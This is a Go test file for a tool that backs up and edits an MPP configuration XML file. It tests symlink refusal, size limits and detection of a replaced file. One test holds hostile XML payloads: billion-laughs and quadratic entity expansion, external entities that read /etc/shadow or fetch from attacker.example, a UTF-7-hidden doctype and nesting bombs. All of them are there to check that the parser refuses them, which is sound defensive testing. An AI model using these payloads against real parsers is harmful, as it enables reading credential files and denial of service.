func (m *mppMemFiles) WriteFileAtomic(path string, data []byte, mode fs.FileMode) error {
	m.calls = append(m.calls, "write "+path)
	if err := m.fail["write "+path]; err != nil {
		return err
	}
	if f, ok := m.files[path]; ok {
		mode = f.mode
	}
	m.files[path] = mppMemFile{bytes.Clone(data), mode}
	if m.after != nil {
		m.after(m, path)
	}
	return nil
}

func (m *mppMemFiles) Exists(path string) (bool, error) {
	m.calls = append(m.calls, "exists "+path)
	_, ok := m.files[path]
	return ok, nil
}

func TestMPPFileThroughMPPFiles(t *testing.T) {
	const cfg = "/mpp/config/mppconfig.xml"
	const orig = cfg + OriginalSuffix
	edited := []byte(simMPPEdited(t))
	for _, tc := range []struct {
		name      string
		files     map[string]mppMemFile
		fail      map[string]error
		wantErr   string
		wantCalls []string
		wantFile  []byte
		wantCopy  []byte
	}{
		{name: "the copy is written before the file",
			files:     map[string]mppMemFile{cfg: {[]byte(simMPPXML), 0o640}},
			wantCalls: []string{"stat " + cfg, "read " + cfg, "stat " + orig, "write " + orig, "read " + cfg, "write " + cfg},
			wantFile:  edited, wantCopy: []byte(simMPPXML)},
		{name: "an existing copy of the file is kept",
			files:     map[string]mppMemFile{cfg: {[]byte(simMPPXML), 0o640}, orig: {[]byte(simMPPXML), 0o640}},
			wantCalls: []string{"stat " + cfg, "read " + cfg, "stat " + orig, "read " + orig, "read " + cfg, "write " + cfg},
			wantFile:  edited, wantCopy: []byte(simMPPXML)},
		{name: "no copy, no edit",
			files: map[string]mppMemFile{cfg: {[]byte(simMPPXML), 0o640}},
			fail:  map[string]error{"write " + orig: errors.New("disk full")}, wantErr: "back up " + cfg + ": disk full",
			wantCalls: []string{"stat " + cfg, "read " + cfg, "stat " + orig, "write " + orig},
			wantFile:  []byte(simMPPXML)},
		{name: "the copy is not a regular file",
			files:     map[string]mppMemFile{cfg: {[]byte(simMPPXML), 0o640}, orig: {nil, fs.ModeSymlink | 0o777}},
			wantErr:   "is not a regular file: refusing to edit",
			wantCalls: []string{"stat " + cfg, "read " + cfg, "stat " + orig},
			wantFile:  []byte(simMPPXML)},
		{name: "already set: read only",
			files:     map[string]mppMemFile{cfg: {edited, 0o640}},
			wantCalls: []string{"stat " + cfg, "read " + cfg},
			wantFile:  edited},
		{name: "too large: not read",
			files:   map[string]mppMemFile{cfg: {make([]byte, MaxMPPConfigSize+1), 0o640}},
			wantErr: "refusing to edit", wantCalls: []string{"stat " + cfg},
			wantFile: make([]byte, MaxMPPConfigSize+1)},
		{name: "a symlink: not read",
			files:   map[string]mppMemFile{cfg: {nil, fs.ModeSymlink | 0o777}},
			wantErr: "not a regular file (symlink?)", wantCalls: []string{"stat " + cfg}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			m := &mppMemFiles{files: tc.files, fail: tc.fail}
			err := mppFile{files: m, path: cfg}.apply(bothParams())
			if tc.wantErr == "" && err != nil || tc.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tc.wantErr)) {
				t.Fatalf("apply = %v, want error %q", err, tc.wantErr)
			}
			if !slices.Equal(m.calls, tc.wantCalls) {
				t.Errorf("calls:\n %q\nwant\n %q", m.calls, tc.wantCalls)
			}
			if got := m.files[cfg].data; !bytes.Equal(got, tc.wantFile) {
				t.Errorf("file = %q, want %q", got, tc.wantFile)
			}
			if got := m.files[orig].data; tc.wantCopy != nil && !bytes.Equal(got, tc.wantCopy) {
				t.Errorf("copy = %q, want %q", got, tc.wantCopy)
			}
			if tc.wantCopy != nil && m.files[orig].mode != m.files[cfg].mode {
				t.Errorf("copy mode %v, file mode %v: want the same", m.files[orig].mode, m.files[cfg].mode)
			}
		})
	}
}

func TestLocalMPPFiles(t *testing.T) {
	dir := t.TempDir()
	regular := filepath.Join(dir, "regular.xml")
	writeTestFile(t, regular, []byte("<a/>"))
	link := filepath.Join(dir, "link.xml")
	if err := os.Symlink(regular, link); err != nil {
		t.Fatal(err)
	}
	dangling := filepath.Join(dir, "dangling.xml")
	if err := os.Symlink(filepath.Join(dir, "nowhere"), dangling); err != nil {
		t.Fatal(err)
	}
	fifo := filepath.Join(dir, "fifo.xml")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	var files LocalMPPFiles

	for _, tc := range []struct {
		name, path string
		max        int64
		want       string
		wantErr    string
	}{
		{"regular", regular, 4, "<a/>", ""},
		{"larger than max", regular, 3, "", "larger than 3 bytes"},
		{"symlink", link, 100, "", "not a regular file"},
		{"fifo does not hang", fifo, 100, "", "not a regular file"},
		{"missing", filepath.Join(dir, "missing"), 100, "", "no such file"},
	} {
		t.Run("ReadFile "+tc.name, func(t *testing.T) {
			got, err := files.ReadFile(tc.path, tc.max)
			if tc.wantErr == "" && err != nil || tc.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tc.wantErr)) {
				t.Fatalf("ReadFile = %q, %v; want error %q", got, err, tc.wantErr)
			}
			if string(got) != tc.want {
				t.Errorf("ReadFile = %q, want %q", got, tc.want)
			}
		})
	}
	for _, tc := range []struct {
		name, path string
		exists     bool
		mode       fs.FileMode // type bits
	}{
		{"regular", regular, true, 0},
		{"symlink", link, true, fs.ModeSymlink},
		{"dangling symlink", dangling, true, fs.ModeSymlink},
		{"missing", filepath.Join(dir, "missing"), false, 0},
	} {
		t.Run("Stat and Exists "+tc.name, func(t *testing.T) {
			ok, err := files.Exists(tc.path)
			if err != nil || ok != tc.exists {
				t.Errorf("Exists = %v, %v; want %v", ok, err, tc.exists)
			}
			st, err := files.Stat(tc.path)
			if !tc.exists {
				if !errors.Is(err, fs.ErrNotExist) {
					t.Errorf("Stat err = %v, want fs.ErrNotExist", err)
				}
				return
			}
			if err != nil || st.Mode.Type() != tc.mode {
				t.Errorf("Stat = %v, %v; want type %v", st.Mode, err, tc.mode)
			}
		})
	}
}

// The hostile XML corpus: entity expansion in every form, external
// entities and document types, encodings that hide a declaration, and
// nesting that is not an MPP configuration. Each is refused with an error
// that says what is wrong and that the file is not edited; the file keeps
// its bytes, time and inode, and no copy or temp file appears.
func TestHostileXML(t *testing.T) {
	var tried, refused int
	t.Cleanup(func() { fmt.Printf("hostile input (xml): %d tried, %d refused with a message\n", tried, refused) })
	root := "<mppconfig>"
	inRoot := func(s string) string { return strings.Replace(simMPPXML, root, root+s, 1) }
	withDoctype := func(doctype string) string { return afterLine(t, simMPPXML, "<?xml", doctype+"\n") }
	laughs := `<!DOCTYPE mppconfig [<!ENTITY lol "lol">`
	for i := 1; i <= 9; i++ {
		laughs += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	laughs = strings.Replace(laughs, "&lol0;", "&lol;", -1) + "]>"
	nest := func(n int) string { return strings.Repeat("<a>", n) + strings.Repeat("</a>", n) }
	for _, tc := range []struct{ name, in, want string }{
		{"billion laughs", strings.Replace(withDoctype(laughs), ">16777216<", ">&lol9;<", 1), "<!DOCTYPE (line 2)"},
		{"quadratic blowup", strings.Replace(withDoctype(`<!DOCTYPE m [<!ENTITY a "`+strings.Repeat("a", 50_000)+`">]>`),
			">16777216<", ">"+strings.Repeat("&a;", 1000)+"<", 1), "<!DOCTYPE"},
		{"external entity (file)", strings.Replace(withDoctype(`<!DOCTYPE m [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>`), ">16777216<", ">&xxe;<", 1), "<!DOCTYPE"},
		{"external entity (URL)", strings.Replace(withDoctype(`<!DOCTYPE m [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>`), ">16777216<", ">&xxe;<", 1), "<!DOCTYPE"},
		{"public external entity", withDoctype(`<!DOCTYPE m [<!ENTITY xxe PUBLIC "-//x//EN" "http://attacker.example/x.dtd">]>`), "<!DOCTYPE"},
		{"parameter entity", withDoctype(`<!DOCTYPE m [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>`), "<!DOCTYPE"},
		{"external DTD", withDoctype(`<!DOCTYPE mppconfig SYSTEM "http://attacker.example/mpp.dtd">`), "<!DOCTYPE"},
		{"doctype over several lines", withDoctype("<!DOCTYPE\n  mppconfig\n  [<!ENTITY x \"y\">]>"), "<!DOCTYPE"},
		{"lower-case doctype", withDoctype(`<!doctype m [<!entity x "y">]>`), "directive"},
		{"entity declaration hidden in a comment", afterLine(t, simMPPXML, "<?xml", `<!-- <!ENTITY x SYSTEM "file:///etc/passwd"> -->`+"\n"), "<!ENTITY"},
		{"undeclared entity reference", strings.Replace(simMPPXML, ">16777216<", ">&xxe;<", 1), "not well-formed"},
		{"entity reference in an attribute", strings.Replace(simMPPXML, `name="ccxml.jsi.runtimesize"`, `name="&xxe;"`, 1), "not well-formed"},
		{"UTF-7 hides the doctype", strings.Replace(strings.Replace(simMPPXML, "UTF-8", "UTF-7", 1), "<mppconfig>",
			"+ADw-!DOCTYPE m +AFs-+ADw-!ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-<mppconfig>", 1), `declares encoding "UTF-7"`},
		{"UTF-16 byte order mark", "\xFF\xFE" + "<\x00!\x00D\x00O\x00C\x00T\x00Y\x00P\x00E\x00", "UTF-16"},
		{"100,000 levels of nesting", inRoot(nest(100_000)), "more than 64 levels deep (line 3)"},
		{"65 levels of nesting", inRoot(nest(64)), "more than 64 levels deep"},
		{"deep nesting in a parameter's value", strings.Replace(simMPPXML, ">16777216<", ">"+nest(1000)+"<", 1), "more than 64 levels deep"},
		{"100,000 unclosed elements", inRoot(strings.Repeat("<a>", 100_000)), "more than 64 levels deep"},
		{"over 4 MiB of nesting", inRoot(nest(MaxMPPConfigSize / 7)), "more than the 4194304"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tried++
			if len(tc.in) > MaxMPPConfigSize && !strings.Contains(tc.want, "4194304") {
				t.Fatalf("the case is %d bytes: over the size limit, it would not test what it says", len(tc.in))
			}
			got, changed, err := SetMPPParams([]byte(tc.in), bothParams())
			if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "refus") {
				t.Fatalf("SetMPPParams: %v\nwant a refusal with %q", err, tc.want)
			}
			if changed || string(got) != tc.in {
				t.Fatal("SetMPPParams changed the refused file")
			}
			dir := t.TempDir()
			path := filepath.Join(dir, "mppconfig.xml")
			setMPPFile(t, path, []byte(tc.in))
			before := takeMPPSnapshot(t, path)
			m := mppFile{files: LocalMPPFiles{}, path: path}
			err = m.apply(bothParams())
			if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), path) {
				t.Fatalf("apply: %v\nwant a refusal naming %s with %q", err, path, tc.want)
			}
			before.unchanged(t, path)
			if names := dirNames(t, dir); !slices.Equal(names, []string{"mppconfig.xml"}) {
				t.Fatalf("the folder holds %q: a copy or a temp file was written", names)
			}
			t.Logf("refused: %v", err)
			refused++
		})
	}
}

// Nesting up to the limit is read; one level more is refused.
func TestMPPConfigDepthLimit(t *testing.T) {
	// The root is level 1; the chain below it makes the deepest level.
	chain := func(levels int) string {
		return strings.Replace(simMPPXML, "<mppconfig>", "<mppconfig>"+strings.Repeat("<a>", levels-1)+strings.Repeat("</a>", levels-1), 1)
	}
	if _, _, err := SetMPPParams([]byte(chain(MaxMPPConfigDepth)), bothParams()); err != nil {
		t.Fatalf("%d levels: %v", MaxMPPConfigDepth, err)
	}
	if _, _, err := SetMPPParams([]byte(chain(MaxMPPConfigDepth+1)), bothParams()); err == nil || !strings.Contains(err.Error(), "more than 64 levels deep") {
		t.Fatalf("%d levels: %v", MaxMPPConfigDepth+1, err)
	}
}

// Torn artifacts: mppconfig.xml replaced after its original was copied,
// while the step runs or between a crashed attempt and the next, is never
// edited: the copy would not be its original. Each is refused before the
// point of no return (the MPP steps come before the installer), and the
// replacement keeps its bytes.
func TestMPPConfigReplacedBetweenCopyAndEdit(t *testing.T) {
	const cfg = "/mpp/config/mppconfig.xml"
	const orig = cfg + OriginalSuffix
	replacement := []byte(strings.Replace(simMPPXML, "<!--", "<!-- redeployed by EPM", 1))
	if bytes.Equal(replacement, []byte(simMPPXML)) {
		t.Fatal("the replacement is the same file")
	}
	cases := []struct {
		name  string
		files map[string]mppMemFile
		after func(m *mppMemFiles, path string)
	}{
		{"replaced while the copy was written", map[string]mppMemFile{cfg: {[]byte(simMPPXML), 0o640}},
			func(m *mppMemFiles, path string) {
				if path == orig {
					m.files[cfg] = mppMemFile{replacement, 0o640}
				}
			}},
		{"replaced after a crashed attempt left the copy", map[string]mppMemFile{
			cfg: {replacement, 0o640}, orig: {[]byte(simMPPXML), 0o640}}, nil},
		{"a copy from another time beside the file", map[string]mppMemFile{
			cfg: {[]byte(simMPPXML), 0o640}, orig: {[]byte("<older/>"), 0o640}}, nil},
	}
	caught := 0
	t.Cleanup(func() {
		fmt.Printf("torn artifacts (mppconfig.xml): %d tried, %d caught before the edit\n", len(cases), caught)
	})
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			m := &mppMemFiles{files: tc.files, after: tc.after}
			before := m.files[cfg].data
			err := mppFile{files: m, path: cfg}.apply(bothParams())
			if err == nil || !strings.Contains(err.Error(), "changed after upgrader copied its original") || !strings.Contains(err.Error(), "then resume") {
				t.Fatalf("apply = %v, want a refusal saying what to do", err)
			}
			if tc.after == nil && !bytes.Equal(m.files[cfg].data, before) || tc.after != nil && !bytes.Equal(m.files[cfg].data, replacement) {
				t.Errorf("the replaced file was written: %q", m.files[cfg].data)
			}
			if slices.Contains(m.calls, "write "+cfg) {
				t.Errorf("the file was edited: %q", m.calls)
			}
			caught++
		})
	}
}
